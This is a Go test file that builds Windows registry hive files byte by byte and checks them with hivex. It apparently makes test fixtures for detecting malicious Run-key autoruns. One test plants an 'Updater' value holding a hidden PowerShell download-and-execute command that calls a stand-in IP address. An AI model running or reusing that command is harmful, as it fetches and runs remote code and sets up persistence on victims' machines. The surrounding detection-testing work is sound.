package ssmdocuments

import (
	"bytes"
	"encoding/binary"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// hiveKey is a registry key to write into a test hive: its subkeys, and
// its REG_SZ values by name.
type hiveKey struct {
	name    string
	subkeys []*hiveKey
	values  map[string]string
}

// hiveWriter lays out the cells of one hive bin (the "regf" format that
// Windows and hivex read): each cell is a negative int32 size followed by
// its content, aligned to 8 bytes, addressed by its offset from the bin's
// start.
type hiveWriter struct {
	bin []byte
}

const (
	hiveBaseBlockSize = 4096
	hiveBinHeaderSize = 32
	hiveNoCell        = 0xFFFFFFFF
)

// cell appends content as an allocated cell and returns its offset.
func (w *hiveWriter) cell(content []byte) uint32 {
	off := len(w.bin)
	size := (4 + len(content) + 7) &^ 7
	c := make([]byte, size)
	binary.LittleEndian.PutUint32(c, uint32(-int32(size)))
	copy(c[4:], content)
	w.bin = append(w.bin, c...)
	return uint32(off)
}

// securityCell is an "sk" cell with an empty self-relative security
// descriptor, which every key points to.
func (w *hiveWriter) securityCell() uint32 {
	descriptor := []byte{1, 0, 0x00, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}
	c := make([]byte, 0x14+len(descriptor))
	copy(c, "sk")
	off := uint32(len(w.bin))
	binary.LittleEndian.PutUint32(c[0x04:], off) // only sk: its own next
	binary.LittleEndian.PutUint32(c[0x08:], off) // and previous
	binary.LittleEndian.PutUint32(c[0x0C:], 1)
	binary.LittleEndian.PutUint32(c[0x10:], uint32(len(descriptor)))
	copy(c[0x14:], descriptor)
	return w.cell(c)
}

// key writes k and its subtree under parent and returns k's offset. The nk
// cell is written first and its list offsets patched once the lists exist.
func (w *hiveWriter) key(k *hiveKey, parent, sk uint32, root bool) uint32 {
	nk := make([]byte, 0x4C+len(k.name))
	copy(nk, "nk")
	flags := uint16(0x0020) // the name is ASCII
	if root {
		flags |= 0x0004 | 0x0008 // hive entry, no delete
	}
	binary.LittleEndian.PutUint16(nk[0x02:], flags)
	binary.LittleEndian.PutUint32(nk[0x10:], parent)
	binary.LittleEndian.PutUint32(nk[0x14:], uint32(len(k.subkeys)))
	binary.LittleEndian.PutUint32(nk[0x1C:], hiveNoCell)
	binary.LittleEndian.PutUint32(nk[0x20:], hiveNoCell)
	binary.LittleEndian.PutUint32(nk[0x24:], uint32(len(k.values)))
	binary.LittleEndian.PutUint32(nk[0x28:], hiveNoCell)
	binary.LittleEndian.PutUint32(nk[0x2C:], sk)
	binary.LittleEndian.PutUint32(nk[0x30:], hiveNoCell)
	binary.LittleEndian.PutUint16(nk[0x48:], uint16(len(k.name)))
	copy(nk[0x4C:], k.name)
	self := w.cell(nk)
	at := func(field int) []byte { return w.bin[int(self)+4+field:] }

	if len(k.subkeys) > 0 {
		children := make([]uint32, len(k.subkeys))
		for i, sub := range k.subkeys {
			children[i] = w.key(sub, self, sk, false)
		}
		list := make([]byte, 4+4*len(children))
		copy(list, "li")
		binary.LittleEndian.PutUint16(list[2:], uint16(len(children)))
		for i, c := range children {
			binary.LittleEndian.PutUint32(list[4+4*i:], c)
		}
		binary.LittleEndian.PutUint32(at(0x1C), w.cell(list))
	}
	if len(k.values) > 0 {
		var offsets []uint32
		for name, value := range k.values {
			data := utf16LE(value + "\x00")
			vk := make([]byte, 0x14+len(name))
			copy(vk, "vk")
			binary.LittleEndian.PutUint16(vk[0x02:], uint16(len(name)))
			binary.LittleEndian.PutUint32(vk[0x04:], uint32(len(data)))
			binary.LittleEndian.PutUint32(vk[0x08:], w.cell(data))
			binary.LittleEndian.PutUint32(vk[0x0C:], 1)      // REG_SZ
			binary.LittleEndian.PutUint16(vk[0x10:], 0x0001) // the name is ASCII
			copy(vk[0x14:], name)
			offsets = append(offsets, w.cell(vk))
		}
		list := make([]byte, 4*len(offsets))
		for i, o := range offsets {
			binary.LittleEndian.PutUint32(list[4*i:], o)
		}
		binary.LittleEndian.PutUint32(at(0x28), w.cell(list))
	}
	return self
}

func utf16LE(s string) []byte {
	var b bytes.Buffer
	for _, u := range utf16.Encode([]rune(s)) {
		_ = binary.Write(&b, binary.LittleEndian, u)
	}
	return b.Bytes()
}

// buildHive returns a registry hive file holding root's tree, in one hive
// bin whose free space is one free cell, with a base block whose checksum
// is right.
func buildHive(root *hiveKey) []byte {
	w := &hiveWriter{bin: make([]byte, hiveBinHeaderSize)}
	sk := w.securityCell()
	rootOff := w.key(root, 0, sk, true)
	binSize := (len(w.bin) + 8 + 4095) &^ 4095
	free := binSize - len(w.bin)
	tail := make([]byte, free)
	binary.LittleEndian.PutUint32(tail, uint32(free))
	w.bin = append(w.bin, tail...)
	copy(w.bin, "hbin")
	binary.LittleEndian.PutUint32(w.bin[0x08:], uint32(binSize))

	base := make([]byte, hiveBaseBlockSize)
	copy(base, "regf")
	binary.LittleEndian.PutUint32(base[0x04:], 1)
	binary.LittleEndian.PutUint32(base[0x08:], 1)
	binary.LittleEndian.PutUint32(base[0x14:], 1)
	binary.LittleEndian.PutUint32(base[0x18:], 5)
	binary.LittleEndian.PutUint32(base[0x20:], 1)
	binary.LittleEndian.PutUint32(base[0x24:], rootOff)
	binary.LittleEndian.PutUint32(base[0x28:], uint32(binSize))
	binary.LittleEndian.PutUint32(base[0x2C:], 1)
	var sum uint32
	for i := 0; i < 0x1FC; i += 4 {
		sum ^= binary.LittleEndian.Uint32(base[i:])
	}
	switch sum {
	case 0:
		sum = 1
	case 0xFFFFFFFF:
		sum = 0xFFFFFFFE
	}
	binary.LittleEndian.PutUint32(base[0x1FC:], sum)
	return append(base, w.bin...)
}

// runKeyHive is a SOFTWARE hive whose Run key starts runValue as "Updater".
func runKeyHive(runValue string) []byte {
	run := &hiveKey{name: "Run", values: map[string]string{"Updater": runValue, "SecurityHealth": `C:\Windows\System32\SecurityHealthSystray.exe`}}
	path := &hiveKey{name: "Microsoft", subkeys: []*hiveKey{{name: "Windows", subkeys: []*hiveKey{{name: "CurrentVersion", subkeys: []*hiveKey{run}}}}}}
	return buildHive(&hiveKey{name: "ROOT", subkeys: []*hiveKey{path}})
}

// TestBuildHiveIsReadByHivex checks the test hives with a real registry
// reader, hivex, so that the disk tests plant hives that Windows tools
// would read too.
func TestBuildHiveIsReadByHivex(t *testing.T) {
	requireTools(t, "hivexget")
	hive := filepath.Join(t.TempDir(), "SOFTWARE")
	writeFile(t, hive, string(runKeyHive(`powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')`)), 0o600)

	r := run(t, nil, "hivexget", hive, `\Microsoft\Windows\CurrentVersion\Run`, "Updater")

	require.Equal(t, 0, r.code, "hivexget: %s", r.stderr)
	assert.Equal(t, `powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')`, strings.TrimSpace(r.stdout))
}
